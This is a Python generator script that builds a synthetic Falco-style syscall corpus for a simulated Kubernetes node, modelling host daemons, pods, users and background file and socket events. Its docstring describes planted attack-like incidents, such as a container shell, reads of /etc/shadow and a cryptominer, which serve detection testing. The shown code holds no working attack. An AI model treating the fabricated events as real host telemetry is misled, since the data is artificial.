#!/usr/bin/env python3
"""Generates a synthetic syscall corpus for `stoop run --source syscall`.

The events are stoop's synthetic replay format (plugins/README.md): one
JSON object per line, {"ts", "evt.type", "evt.dir", "fields"}. They model a
busy Kubernetes node: host daemons (systemd, sshd, containerd, kubelet,
journald, cron...), interactive admin shells, and pods (nginx + php-fpm,
postgres, redis, a Kafka broker, a node.js API, a Python worker,
Prometheus, CoreDNS, fluent-bit). Every event carries the process, user and
container fields the official rules read (proc.name, proc.cmdline,
proc.aname as an array of ancestors, user.name, container.id...), plus the
fields of its event type (fd.* for file and socket events, evt.arg.* for
the arguments the rules test).

The event-type mix is that of such a host (exit events, "<", except the
enter-only procexit): mostly file opens, reads, writes and closes, memory
and wait calls, then socket traffic, and rare process, credential,
namespace and module events (--list-mix prints it). Against that
background, about one event in 1000 (--incident-rate) is an incident: one
of the scenarios below, each made to trip a rule of falco_rules.yaml,
falco-incubating_rules.yaml or falco-sandbox_rules.yaml (a shell in a
container, a read of /etc/shadow, a write below /etc, a connection to the
cloud metadata service, a cryptominer...). Some scenarios are the
near-misses the rules' exceptions are written for (unix_chkpwd reading
/etc/shadow, a shell writing .bash_history, dpkg writing below /etc, a
container starting without sensitive mounts) and the background has more
(health-check shells without a terminal, allowed images contacting the API
server), so conditions are evaluated deep, not just rejected on evt.type.
The background alone gives no alert.

The corpus is deterministic for a given --seed and size. Files are
syscall-NNN.jsonl of about --file-mb MiB; MANIFEST lists seed, files,
bytes, events, then the count of each event type and each incident. It is
written to a temporary directory next to --out and renamed into place when
complete. It is data for benchmarks only: never commit it.

usage: gen_syscall_corpus.py --out DIR [--size-mb 100 | --events N]
                             [--seed 42] [--file-mb 8] [--incident-rate 0.001]
       gen_syscall_corpus.py --list-mix
"""
import argparse
import json
import os
import random
import shutil
import tempfile

T0 = 1700000000000000000          # 2023-11-14T22:13:20Z, ns
MEAN_GAP_NS = 8000                # about 125k events/s on the node
SHELLS = ["bash", "sh", "dash", "zsh"]

# ---------------------------------------------------------------------------
# Event-type mix: weights per 10000 events (the background; incidents add
# their own). Every name is an event of falco-events.md; all are exit
# events except procexit, which Falco lists as enter only.

MIX = [
    ("openat", 2150), ("open", 90), ("openat2", 10), ("read", 1250), ("write", 700),
    ("close", 1350), ("newfstatat", 380), ("fstat", 300), ("stat", 80), ("lseek", 140),
    ("mmap", 380), ("munmap", 150), ("mprotect", 230), ("brk", 90), ("futex", 450),
    ("epoll_wait", 400), ("poll", 90), ("ppoll", 40), ("nanosleep", 90),
    ("clock_nanosleep", 40), ("ioctl", 180), ("fcntl", 150), ("getdents64", 90),
    ("readv", 30), ("writev", 100), ("pread", 50), ("pwrite", 30), ("recvfrom", 180),
    ("sendto", 160), ("recvmsg", 100), ("sendmsg", 80), ("connect", 95), ("accept4", 40),
    ("accept", 10), ("socket", 80), ("bind", 15), ("listen", 2), ("getsockopt", 45),
    ("setsockopt", 45), ("shutdown", 15), ("pipe2", 20), ("dup2", 14), ("dup3", 4),
    ("dup", 8), ("clone", 45), ("clone3", 20), ("fork", 3), ("vfork", 5), ("execve", 60),
    ("procexit", 60), ("setuid", 4), ("setgid", 4), ("setresuid", 2), ("prctl", 20),
    ("rt_sigaction", 40), ("rt_sigprocmask", 40), ("kill", 5), ("tgkill", 5),
    ("unlinkat", 20), ("unlink", 5), ("renameat2", 10), ("rename", 5), ("mkdirat", 8),
    ("rmdir", 2), ("fchmodat", 3), ("chmod", 2), ("fchmod", 2), ("symlinkat", 2),
    ("linkat", 1), ("chdir", 5), ("getcwd", 10), ("access", 30), ("setns", 3),
    ("unshare", 1), ("sched_yield", 30), ("getrandom", 20), ("uname", 10), ("bpf", 1),
    ("memfd_create", 1), ("mount", 1), ("umount2", 1),
]

# ---------------------------------------------------------------------------
# The node: users, containers, processes.

USERS = {
    "root": (0, 0, "root"), "ubuntu": (1000, 1000, "ubuntu"), "alice": (1001, 1001, "alice"),
    "www-data": (33, 33, "www-data"), "postgres": (999, 999, "postgres"),
    "nobody": (65534, 65534, "nogroup"), "systemd-resolve": (101, 103, "systemd-resolve"),
    "syslog": (104, 110, "syslog"), "redis": (999, 999, "redis"), "node": (1000, 1000, "node"),
    "kafka": (1001, 1001, "kafka"), "app": (10001, 10001, "app"),
}

DEFAULT_CAPS = ("CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID "
                "CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT "
                "CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP")
ALL_CAPS = ("CAP_CHOWN CAP_DAC_OVERRIDE CAP_DAC_READ_SEARCH CAP_FOWNER CAP_FSETID CAP_KILL "
            "CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_LINUX_IMMUTABLE CAP_NET_BIND_SERVICE "
            "CAP_NET_BROADCAST CAP_NET_ADMIN CAP_NET_RAW CAP_IPC_LOCK CAP_IPC_OWNER "
            "CAP_SYS_MODULE CAP_SYS_RAWIO CAP_SYS_CHROOT CAP_SYS_PTRACE CAP_SYS_PACCT "
            "CAP_SYS_ADMIN CAP_SYS_BOOT CAP_SYS_NICE CAP_SYS_RESOURCE CAP_SYS_TIME "
            "CAP_SYS_TTY_CONFIG CAP_MKNOD CAP_LEASE CAP_AUDIT_WRITE CAP_AUDIT_CONTROL "
            "CAP_SETFCAP CAP_MAC_OVERRIDE CAP_MAC_ADMIN CAP_SYSLOG CAP_WAKE_ALARM "
            "CAP_BLOCK_SUSPEND CAP_AUDIT_READ CAP_PERFMON CAP_BPF CAP_CHECKPOINT_RESTORE")

# Mount destinations the sandbox rule "Launch Sensitive Mount Container"
# asks the container plugin about; "<NA>" when the container has none.
SENSITIVE_MOUNTS = ["/proc*", "/var/run/docker.sock", "/var/run/crio/crio.sock",
                    "/run/containerd/containerd.sock", "/var/lib/kubelet",
                    "/var/lib/kubelet/pki", "/", "/home/admin", "/etc", "/etc/kubernetes",
                    "/etc/kubernetes/manifests", "/root*"]

LIBS = ["/lib/x86_64-linux-gnu/libc.so.6", "/lib/x86_64-linux-gnu/libpthread.so.0",
        "/lib/x86_64-linux-gnu/libm.so.6", "/lib/x86_64-linux-gnu/libdl.so.2",
        "/usr/lib/x86_64-linux-gnu/libssl.so.3", "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
        "/lib/x86_64-linux-gnu/libz.so.1", "/etc/ld.so.cache", "/usr/lib/locale/locale-archive",
        "/etc/nsswitch.conf", "/etc/passwd", "/etc/group", "/etc/hosts", "/etc/resolv.conf",
        "/proc/self/status", "/proc/self/maps", "/sys/devices/system/cpu/online",
        "/proc/meminfo", "/proc/stat", "/dev/null", "/dev/urandom"]


class Container:
    def __init__(self, cid, name, image, ns, pod, privileged=False, mounts=None):
        self.id, self.name, self.image, self.ns, self.pod = cid, name, image, ns, pod
        self.privileged = privileged
        self.mounts = mounts or {}


class Proc:
    """A process; its fields fragment (JSON members without braces) is built once."""
    next_pid = 2000

    def __init__(self, name, exepath, args, parent, user, container=None, tty=0, cwd="/",
                 env=None, vpid=None, files=(), start_ns=None, exe=None):
        Proc.next_pid += 1
        self.pid = 1 if name == "systemd" and parent is None else Proc.next_pid
        self.name = name[:15]                  # the kernel's comm: 15 characters
        self.exepath = exepath
        self.exe = exe or exepath
        self.args = args
        self.cmdline = (self.name + " " + args).rstrip() if args else self.name
        self.parent = parent
        self.user = user
        self.container = container
        self.tty = tty
        self.cwd = cwd
        self.env = env
        self.vpid = vpid if vpid is not None else self.pid
        self.files = list(files) or LIBS[:6]
        self.start_ns = T0 - 3600 * 10**9 if start_ns is None else start_ns
        self.frag = self._fragment()

    def ancestors(self):
        out, p = [], self.parent
        while p is not None:
            out.append(p)
            p = p.parent
        return out

    def _fragment(self):
        uid, gid, group = USERS[self.user]
        anc = self.ancestors()
        f = {
            "proc.name": self.name, "proc.exe": self.exe, "proc.exepath": self.exepath,
            "proc.cmdline": self.cmdline, "proc.args": self.args, "proc.pid": self.pid,
            "proc.vpid": self.vpid, "proc.tty": self.tty, "proc.cwd": self.cwd,
            "user.name": self.user, "user.uid": uid,
            "user.loginuid": uid if self.tty else -1, "group.gid": gid, "group.name": group,
            "proc.aname": [a.name for a in anc],
        }
        if anc:
            p = anc[0]
            f.update({"proc.pname": p.name, "proc.pexe": p.exe, "proc.pcmdline": p.cmdline})
        c = self.container
        if c is None:
            f["container.id"] = "host"
        else:
            f.update({"container.id": c.id, "container.image.repository": c.image, "container.privileged": c.privileged,
                      "k8s.ns.name": c.ns, "k8s.pod.name": c.pod})
        return json.dumps(f, separators=(",", ":"))[1:-1]


def hexid(rng, n=12):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


class Node:
    """The processes of the node, with weights for picking the actor of an event."""

    def __init__(self, rng):
        self.rng = rng
        r = rng
        self.systemd = Proc("systemd", "/usr/lib/systemd/systemd", "--system --deserialize 31",
                            None, "root")
        s = self.systemd
        self.containerd = Proc("containerd", "/usr/bin/containerd", "", s, "root")
        self.kubelet = Proc("kubelet", "/usr/bin/kubelet",
                            "--config=/var/lib/kubelet/config.yaml "
                            "--container-runtime-endpoint=unix:///run/containerd/containerd.sock",
                            s, "root", files=["/var/lib/kubelet/pods", "/sys/fs/cgroup/kubepods.slice/cpu.stat",
                                              "/proc/diskstats", "/etc/kubernetes/kubelet.conf",
                                              "/var/lib/kubelet/pki/kubelet-client-current.pem"])
        self.sshd = Proc("sshd", "/usr/sbin/sshd", "-D", s, "root")
        journald = Proc("systemd-journal", "/usr/lib/systemd/systemd-journald", "", s, "root",
                        files=["/var/log/journal/3f2a/system.journal", "/run/log/journal",
                               "/proc/1/cgroup"])
        resolved = Proc("systemd-resolve", "/usr/lib/systemd/systemd-resolved", "", s,
                        "systemd-resolve", files=["/etc/hosts", "/run/systemd/resolve/stub-resolv.conf"])
        logind = Proc("systemd-logind", "/usr/lib/systemd/systemd-logind", "", s, "root")
        rsyslog = Proc("rsyslogd", "/usr/sbin/rsyslogd", "-n -iNONE", s, "syslog",
                       files=["/var/log/syslog", "/var/log/auth.log", "/var/log/kern.log"])
        self.cron = Proc("cron", "/usr/sbin/cron", "-f -P", s, "root")
        exporter = Proc("node_exporter", "/usr/local/bin/node_exporter",
                        "--path.rootfs=/host", s, "nobody",
                        files=["/proc/stat", "/proc/meminfo", "/proc/diskstats", "/proc/net/dev",
                               "/sys/class/net/eth0/statistics/rx_bytes", "/proc/loadavg"])
        chronyd = Proc("chronyd", "/usr/sbin/chronyd", "-F 1", s, "root")
        # An admin's interactive session: sshd -> sshd -> bash with a terminal.
        sess = Proc("sshd", "/usr/sbin/sshd", "-D -R", self.sshd, "root")
        self.admin_shell = Proc("bash", "/usr/bin/bash", "", sess, "ubuntu", tty=34816,
                                cwd="/home/ubuntu", files=["/home/ubuntu/.bashrc",
                                                           "/home/ubuntu/.bash_history", "/etc/profile"])
        self.root_shell = Proc("bash", "/usr/bin/bash", "", Proc("sudo", "/usr/bin/sudo", "-i",
                                                                 self.admin_shell, "root", tty=34816),
                               "root", tty=34816, cwd="/root",
                               files=["/root/.bashrc", "/root/.bash_history", "/etc/profile"])

        # Pods: one containerd-shim per pod, the container's init (vpid 1), workers.
        self.containers = []
        self.shims = {}
        specs = [
            ("web", "nginx", "docker.io/library/nginx", "shop", "web-7d9f8c6b5-x2kqp"),
            ("php", "php-fpm", "docker.io/library/php", "shop", "web-7d9f8c6b5-x2kqp"),
            ("db", "postgres", "docker.io/library/postgres", "shop", "db-0"),
            ("cache", "redis", "docker.io/library/redis", "shop", "cache-5f6d7c8b9-h4j5k"),
            ("kafka", "kafka", "docker.io/bitnami/kafka", "streaming", "kafka-0"),
            ("api", "api", "registry.example.com/shop/api", "shop", "api-6c7d8e9f0-a1b2c"),
            ("worker", "worker", "registry.example.com/shop/worker", "shop", "worker-5b6c7d8e9-d3e4f"),
            ("prom", "prometheus", "quay.io/prometheus/prometheus", "monitoring", "prometheus-0"),
            ("dns", "coredns", "registry.k8s.io/coredns/coredns", "kube-system", "coredns-5d78c9869d-qwert"),
            ("logs", "fluent-bit", "cr.fluentbit.io/fluent/fluent-bit", "logging", "fluent-bit-8xk2m"),
        ]
        self.c = {}
        for key, cname, image, ns, pod in specs:
            c = Container(hexid(r), cname, image, ns, pod)
            self.c[key] = c
            self.containers.append(c)
            self.shims[key] = Proc("containerd-shim", "/usr/bin/containerd-shim-runc-v2",
                                   "-namespace k8s.io -id " + c.id,
                                   s, "root")
        sh = self.shims
        cc = self.c
        self.nginx = Proc("nginx", "/usr/sbin/nginx", "-g daemon off;", sh["web"], "root", cc["web"],
                          vpid=1, files=["/etc/nginx/nginx.conf", "/var/log/nginx/access.log"])
        self.nginx_worker = Proc("nginx", "/usr/sbin/nginx", "-g daemon off;", self.nginx, "www-data",
                                 cc["web"], vpid=29,
                                 files=["/usr/share/nginx/html/index.html", "/usr/share/nginx/html/static/app.js",
                                        "/usr/share/nginx/html/static/app.css", "/var/log/nginx/access.log",
                                        "/var/cache/nginx/proxy_temp/1/00/0000000001"])
        self.php = Proc("php-fpm", "/usr/local/sbin/php-fpm", "--nodaemonize", sh["php"], "root",
                        cc["php"], vpid=1)
        self.php_worker = Proc("php-fpm", "/usr/local/sbin/php-fpm", "--nodaemonize", self.php,
                               "www-data", cc["php"], vpid=7,
                               files=["/var/www/html/index.php", "/var/www/html/vendor/autoload.php",
                                      "/var/www/html/src/Controller/CartController.php",
                                      "/tmp/sess_4f7a1c", "/usr/local/etc/php/php.ini"])
        self.postgres = Proc("postgres", "/usr/lib/postgresql/16/bin/postgres", "", sh["db"], "postgres",
                             cc["db"], vpid=1,
                             files=["/var/lib/postgresql/data/base/16384/2619",
                                    "/var/lib/postgresql/data/base/16384/16402",
                                    "/var/lib/postgresql/data/pg_wal/000000010000000000000042",
                                    "/var/lib/postgresql/data/global/pg_control"])
        self.pg_backend = Proc("postgres", "/usr/lib/postgresql/16/bin/postgres",
                               "postgres: shop shop 10.244.1.17(51834) idle", self.postgres, "postgres",
                               cc["db"], vpid=88, files=self.postgres.files)
        self.redis = Proc("redis-server", "/usr/local/bin/redis-server", "*:6379", sh["cache"], "redis",
                          cc["cache"], vpid=1, files=["/data/dump.rdb", "/data/appendonly.aof"])
        self.kafka = Proc("java", "/opt/bitnami/java/bin/java",
                          "-Xmx1G -Xms1G -server -XX:+UseG1GC -cp /opt/bitnami/kafka/libs/* kafka.Kafka "
                          "/opt/bitnami/kafka/config/server.properties", sh["kafka"], "kafka", cc["kafka"],
                          vpid=1, files=["/bitnami/kafka/data/orders-0/00000000000000000000.log",
                                         "/bitnami/kafka/data/orders-0/00000000000000000000.index",
                                         "/opt/bitnami/kafka/libs/kafka_2.13-3.6.0.jar",
                                         "/proc/self/mountinfo"])
        self.node_api = Proc("node", "/usr/local/bin/node", "dist/server.js", sh["api"], "node", cc["api"],
                             vpid=1, cwd="/app",
                             files=["/app/dist/server.js", "/app/node_modules/express/index.js",
                                    "/app/config/production.json", "/etc/ssl/certs/ca-certificates.crt"])
        self.worker = Proc("python3", "/usr/local/bin/python3",
                           "-m celery -A tasks worker --loglevel=INFO", sh["worker"], "app", cc["worker"],
                           vpid=1, cwd="/srv",
                           files=["/srv/tasks.py", "/usr/local/lib/python3.12/json/__init__.py",
                                  "/tmp/tmpq8w3e1.csv", "/srv/reports/daily.csv"])
        self.prom = Proc("prometheus", "/bin/prometheus",
                         "--config.file=/etc/prometheus/prometheus.yml --storage.tsdb.path=/prometheus",
                         sh["prom"], "nobody", cc["prom"], vpid=1,
                         files=["/prometheus/wal/00000012", "/prometheus/chunks_head/000003",
                                "/etc/prometheus/prometheus.yml"])
        self.coredns = Proc("coredns", "/coredns", "-conf /etc/coredns/Corefile", sh["dns"], "root",
                            cc["dns"], vpid=1, files=["/etc/coredns/Corefile"])
        self.fluentbit = Proc("fluent-bit", "/fluent-bit/bin/fluent-bit",
                              "-c /fluent-bit/etc/fluent-bit.conf", sh["logs"], "root", cc["logs"], vpid=1,
                              files=["/var/log/containers/web-7d9f8c6b5-x2kqp_shop_nginx-1.log",
                                     "/var/log/containers/api-6c7d8e9f0-a1b2c_shop_api-2.log",
                                     "/var/log/pods/shop_db-0/postgres/0.log",
                                     "/fluent-bit/tail-db/tail.db"])

        # Who does what, weighted: the busy ones do most of the syscalls.
        self.busy = [
            (self.nginx_worker, 14), (self.php_worker, 10), (self.pg_backend, 10), (self.postgres, 3),
            (self.redis, 8), (self.kafka, 12), (self.node_api, 10), (self.worker, 6), (self.prom, 6),
            (self.coredns, 5), (self.fluentbit, 5), (self.containerd, 4), (self.kubelet, 6),
            (journald, 3), (resolved, 1), (logind, 1), (rsyslog, 2), (exporter, 3), (chronyd, 1),
            (self.sshd, 1), (self.admin_shell, 1), (self.nginx, 1),
        ]
        self.busy_total = sum(w for _, w in self.busy)
        # Actors of the event types only some processes make.
        net = [(p, w) for p, w in self.busy if p not in (journald, logind, self.admin_shell, self.nginx)]
        runc_child = Proc("runc:[1:CHILD]", "/usr/bin/runc", "init", self.shims["web"], "root")
        nsenter = Proc("nsenter", "/usr/bin/nsenter", "--net=/var/run/netns/cni-1234 -F -- ip addr", self.kubelet,
                       "root")
        root = [(self.sshd, 2), (self.cron, 2), (self.nginx, 2), (self.php, 2), (self.containerd, 1),
                (self.coredns, 1), (self.fluentbit, 1), (runc_child, 1)]
        self.roles = {
            "net": (net, sum(w for _, w in net)),
            "root": (root, sum(w for _, w in root)),
            "ns": ([(runc_child, 4), (self.containerd, 1), (nsenter, 2)], 7),
            "unshare": ([(runc_child, 1)], 1),
        }
        self.servers = {self.nginx_worker: 8080, self.php_worker: 9000, self.pg_backend: 5432,
                        self.redis: 6379, self.kafka: 9092, self.node_api: 3000, self.coredns: 53,
                        self.prom: 9090, self.sshd: 22, self.kubelet: 10250}
        self.ips = {}
        for i, c in enumerate(self.containers):
            self.ips[c.id] = "10.244.1.%d" % (10 + i)

    def pick(self, role=None):
        procs, total = self.roles[role] if role else (self.busy, self.busy_total)
        x = self.rng.random() * total
        for p, w in procs:
            x -= w
            if x < 0:
                return p
        return procs[-1][0]

    def ip_of(self, p):
        return self.ips[p.container.id] if p.container else "192.168.10.21"


# ---------------------------------------------------------------------------
# Field builders for each event type. Each returns the per-event fields.

def open_flags(rng, write):
    if write:
        return rng.choice(["O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC", "O_WRONLY|O_APPEND|O_CREAT",
                           "O_RDWR|O_CREAT|O_CLOEXEC", "O_WRONLY|O_APPEND"])
    return rng.choice(["O_RDONLY|O_CLOEXEC", "O_RDONLY", "O_RDONLY|O_NONBLOCK|O_CLOEXEC"])


def split_path(path):
    d, _, f = path.rpartition("/")
    return (d or "/"), f


def file_open(p, path, write, rng, ts, fdnum=None, flags=None, typechar="f", failed=False):
    d, f = split_path(path)
    fd = fdnum if fdnum is not None else rng.randrange(3, 64)
    out = {"fd.name": path, "fd.nameraw": path, "fd.directory": d, "fd.filename": f,
           "fd.typechar": typechar, "fd.type": "file" if typechar == "f" else "directory",
           "evt.arg.name": path, "evt.arg.flags": flags or open_flags(rng, write),
           "evt.arg.mode": "0644" if write else "0", "evt.is_open_read": not write,
           "evt.is_open_write": write, "proc.duration": max(0, ts - p.start_ns)}
    if failed:
        out.update({"fd.num": -1, "evt.arg.fd": -2, "evt.res": "ENOENT", "evt.rawres": -2,
                    "evt.failed": True})
    else:
        out.update({"fd.num": fd, "evt.arg.fd": fd, "evt.res": "SUCCESS", "evt.rawres": fd,
                    "evt.failed": False})
    return out


def bg_open(node, p, rng, ts):
    path = rng.choice(p.files) if rng.random() < 0.75 else rng.choice(LIBS)
    if path in ("/var/log/syslog", "/var/log/auth.log", "/var/log/kern.log"):
        write = True
        flags = "O_WRONLY|O_APPEND|O_CREAT|O_NOCTTY"
    else:
        write = rng.random() < 0.18 and not path.startswith(("/lib", "/usr/lib", "/etc/", "/proc", "/sys"))
        flags = "O_WRONLY|O_APPEND|O_CREAT" if write and "log" in path else None
    failed = not write and rng.random() < 0.06
    if rng.random() < 0.04:
        return file_open(p, path.rpartition("/")[0] or "/", False, rng, ts,
                         flags="O_RDONLY|O_DIRECTORY|O_CLOEXEC", typechar="d")
    return file_open(p, path, write, rng, ts, flags=flags, failed=failed)


def fd_io(node, p, rng, ts):
    r = rng.random()
    if r < 0.55:
        path = rng.choice(p.files)
        fd = {"fd.name": path, "fd.typechar": "f", "fd.type": "file", "fd.directory": split_path(path)[0],
              "fd.filename": split_path(path)[1]}
    elif r < 0.85 and p in node.servers:
        fd = sock_fields(node, p, rng, inbound=True)
    else:
        fd = {"fd.name": "pipe:[%d]" % rng.randrange(100000, 999999), "fd.typechar": "p", "fd.type": "pipe"}
    n = rng.choice([0, 1, 8, 64, 512, 1024, 4096, 4096, 16384])
    fd.update({"fd.num": rng.randrange(3, 200), "evt.res": str(n) if n else "0", "evt.rawres": n,
               "evt.failed": False})
    return fd


def sock_fields(node, p, rng, inbound, server=None, sport=None, proto="tcp", sname=None):
    """The fd.* of an IPv4 socket of p: inbound (p serves) or outbound."""
    me = node.ip_of(p)
    if inbound:
        cip, cport = rng.choice(["10.244.1.%d" % rng.randrange(10, 40), "10.244.2.%d" % rng.randrange(2, 60),
                                 "192.168.10.%d" % rng.randrange(2, 40)]), rng.randrange(32768, 61000)
        sip, sport = me, node.servers.get(p, 8080)
        lip, lport, rip, rport = sip, sport, cip, cport
    else:
        cip, cport = me, rng.randrange(32768, 61000)
        sip = server
        lip, lport, rip, rport = cip, cport, sip, sport
    out = {"fd.typechar": "4", "fd.type": "ipv4", "fd.sockfamily": "ip", "fd.l4proto": proto,
           "fd.name": "%s:%d->%s:%d" % (cip, cport, sip, sport), "fd.cip": cip, "fd.sip": sip,
           "fd.lip": lip, "fd.rip": rip, "fd.cport": cport, "fd.sport": sport, "fd.lport": lport,
           "fd.rport": rport, "fd.port": sport, "fd.ip": sip, "fd.net": sip, "fd.snet": sip,
           "fd.rnet": rip, "fd.connected": proto == "tcp",
           "fd.name_changed": False}
    if sname:
        out["fd.sip.name"] = sname
    return out


# Outbound peers: (server ip, port, proto, server name).
PEERS = {
    "db": ("10.96.14.2", 5432, "tcp", "db.shop.svc.cluster.local"),
    "redis": ("10.96.22.7", 6379, "tcp", "cache.shop.svc.cluster.local"),
    "kafka": ("10.96.31.9", 9092, "tcp", "kafka.streaming.svc.cluster.local"),
    "api": ("10.96.40.3", 3000, "tcp", "api.shop.svc.cluster.local"),
    "k8s": ("10.96.0.1", 443, "tcp", "kubernetes.default.svc.cluster.local"),
    "dns": ("10.96.0.10", 53, "udp", "kube-dns.kube-system.svc.cluster.local"),
    "s3": ("52.216.8.101", 443, "tcp", "s3.amazonaws.com"),
    "pay": ("198.51.100.23", 443, "tcp", "api.payments.example"),
    "ntp": ("162.159.200.1", 123, "udp", "time.cloudflare.com"),
}


def outbound_peer(node, p, rng):
    if p is node.php_worker:
        return rng.choice(["db", "db", "redis", "dns"])
    if p is node.node_api:
        return rng.choice(["db", "redis", "kafka", "pay", "dns"])
    if p is node.worker:
        return rng.choice(["db", "kafka", "s3", "dns"])
    if p is node.prom:
        return rng.choice(["k8s", "api", "dns"])       # an allowed image for the API server
    if p is node.coredns:
        return rng.choice(["k8s", "dns"])              # kube-system
    if p is node.kubelet:
        return "k8s"
    if p.container is None:
        return rng.choice(["ntp", "s3", "dns"])
    return rng.choice(["dns", "api"])


def net_out(node, p, rng):
    key = outbound_peer(node, p, rng)
    sip, sport, proto, sname = PEERS[key]
    f = sock_fields(node, p, rng, inbound=False, server=sip, sport=sport, proto=proto, sname=sname)
    return f


def bg_connect(node, p, rng, ts):
    f = net_out(node, p, rng)
    if f["fd.l4proto"] == "tcp" and rng.random() < 0.3:
        f.update({"evt.res": "EINPROGRESS", "evt.rawres": -115})
    else:
        f.update({"evt.res": "SUCCESS", "evt.rawres": 0})
    f["fd.num"] = rng.randrange(5, 300)
    f["evt.arg.fd"] = f["fd.num"]
    return f


def bg_accept(node, p, rng, ts):
    if p not in node.servers:
        p = rng.choice(list(node.servers))
    f = sock_fields(node, p, rng, inbound=True)
    fd = rng.randrange(5, 300)
    f.update({"fd.num": fd, "evt.res": str(fd), "evt.rawres": fd})
    return f, p


def bg_sendrecv(node, p, rng, ts):
    if p in node.servers and rng.random() < 0.6:
        f = sock_fields(node, p, rng, inbound=True)
    else:
        f = net_out(node, p, rng)
        if f["fd.l4proto"] == "udp":
            f["fd.connected"] = False
    n = rng.choice([32, 64, 128, 512, 1448, 4096])
    f.update({"fd.num": rng.randrange(5, 300), "evt.res": str(n), "evt.rawres": n})
    return f


def bg_socket(node, p, rng, ts):
    dom = rng.choice(["AF_INET", "AF_INET", "AF_INET6", "AF_UNIX", "AF_UNIX", "AF_NETLINK"])
    fd = rng.randrange(5, 300)
    return {"evt.arg.domain": dom, "evt.arg.type": rng.choice(["SOCK_STREAM", "SOCK_DGRAM"]),
            "fd.num": fd, "evt.res": str(fd), "evt.rawres": fd}


def generic_res(node, p, rng, ts):
    return {"evt.res": "SUCCESS", "evt.rawres": 0, "evt.failed": False}


def bg_fd_plain(node, p, rng, ts):
    f = fd_io(node, p, rng, ts)
    f.update({"evt.res": "SUCCESS", "evt.rawres": 0})
    return f


def bg_dup(node, p, rng, ts):
    newfd = rng.choice([3, 4, 5, 6, 7, 8, 9, 10, 2])
    old = rng.choice([
        {"fd.name": "/dev/null", "fd.typechar": "c", "fd.type": "file"},
        {"fd.name": "pipe:[%d]" % rng.randrange(100000, 999999), "fd.typechar": "p", "fd.type": "pipe"},
        {"fd.name": rng.choice(p.files), "fd.typechar": "f", "fd.type": "file"},
    ])
    old.update({"fd.num": newfd, "evt.res": str(newfd), "evt.rawres": newfd})
    return old


def bg_clone(node, p, rng, ts):
    child = rng.randrange(10000, 4000000)
    return {"evt.res": str(child), "evt.rawres": child, "evt.arg.flags": "CLONE_VM|CLONE_FS|CLONE_FILES|"
            "CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM|CLONE_SETTLS|CLONE_PARENT_SETTID|CLONE_CHILD_CLEARTID"}


def bg_file_meta(node, p, rng, ts):
    path = rng.choice(p.files + LIBS)
    return {"evt.arg.path": path, "fd.name": path, "evt.res": "SUCCESS", "evt.rawres": 0}


def bg_unlink(node, p, rng, ts):
    path = rng.choice(["/tmp/tmp%06x" % rng.randrange(1 << 24), "/var/cache/nginx/proxy_temp/%d" % rng.randrange(100),
                       "/run/containerd/io.containerd.runtime.v2.task/k8s.io/%s/rootfs.tmp" % hexid(rng, 8),
                       "/var/lib/postgresql/data/pg_wal/archive_status/00000001000000000000%04X.done"
                       % rng.randrange(4096)])
    return {"evt.arg.name": path, "evt.arg.path": path, "evt.res": "SUCCESS", "evt.rawres": 0}


def bg_rename(node, p, rng, ts):
    d = rng.choice(["/var/lib/kubelet/pods/%s/volumes" % hexid(rng, 8), "/tmp", "/var/log/journal/3f2a",
                    "/prometheus/wal"])
    old = "%s/.tmp-%06x" % (d, rng.randrange(1 << 24))
    new = "%s/data-%06x" % (d, rng.randrange(1 << 24))
    return {"evt.arg.oldpath": old, "evt.arg.newpath": new, "evt.res": "SUCCESS", "evt.rawres": 0}


def bg_mkdir(node, p, rng, ts):
    path = rng.choice(["/var/lib/kubelet/pods/%s" % hexid(rng, 8), "/tmp/systemd-private-%s" % hexid(rng, 8),
                       "/run/containerd/io.containerd.runtime.v2.task/k8s.io/%s" % hexid(rng, 12)])
    return {"evt.arg.path": path, "evt.arg.mode": "0755", "evt.res": "SUCCESS", "evt.rawres": 0}


def bg_chmod(node, p, rng, ts):
    path = rng.choice(["/tmp/tmp%06x" % rng.randrange(1 << 24), "/run/containerd/s/%s" % hexid(rng, 16)])
    return {"evt.arg.filename": path, "evt.arg.path": path,
            "evt.arg.mode": rng.choice(["S_IRUSR|S_IWUSR", "S_IRUSR|S_IWUSR|S_IRGRP|S_IROTH",
                                        "S_IRWXU|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH"]),
            "evt.res": "SUCCESS", "evt.rawres": 0}


def bg_symlink(node, p, rng, ts):
    tgt = rng.choice(["/var/log/pods/shop_db-0/postgres/0.log", "../lib/node_modules/npm/bin/npm-cli.js",
                      "/proc/self/fd"])
    return {"evt.arg.target": tgt, "evt.arg.linkpath": "/var/log/containers/%s.log" % hexid(rng, 10),
            "evt.res": "SUCCESS", "evt.rawres": 0}


def bg_link(node, p, rng, ts):
    return {"evt.arg.oldpath": "/var/lib/postgresql/data/pg_wal/xlogtemp.%d" % rng.randrange(100, 999),
            "evt.arg.newpath": "/var/lib/postgresql/data/pg_wal/00000001000000000000%04X" % rng.randrange(4096),
            "evt.res": "SUCCESS", "evt.rawres": 0}


def bg_setuid(node, p, rng, ts):
    return {"evt.arg.uid": rng.choice(["root", "www-data", "nobody"]), "evt.res": "SUCCESS", "evt.rawres": 0}


def bg_setns(node, p, rng, ts):
    return {"evt.arg.fd": rng.randrange(3, 20), "evt.arg.nstype": "CLONE_NEWNET", "evt.res": "SUCCESS",
            "evt.rawres": 0}


def bg_ptrace(node, p, rng, ts):
    return {"evt.arg.request": "PTRACE_PEEKDATA", "evt.arg.pid": rng.randrange(1000, 90000),
            "evt.res": "SUCCESS", "evt.rawres": 0}


def bg_bpf(node, p, rng, ts):
    return {"evt.arg.cmd": rng.choice(["BPF_MAP_LOOKUP_ELEM", "BPF_MAP_UPDATE_ELEM", "BPF_OBJ_GET"]),
            "evt.res": "SUCCESS", "evt.rawres": 0}


BUILDERS = {
    "openat": bg_open, "open": bg_open, "openat2": bg_open,
    "read": fd_io, "write": fd_io, "readv": fd_io, "writev": fd_io, "pread": fd_io, "pwrite": fd_io,
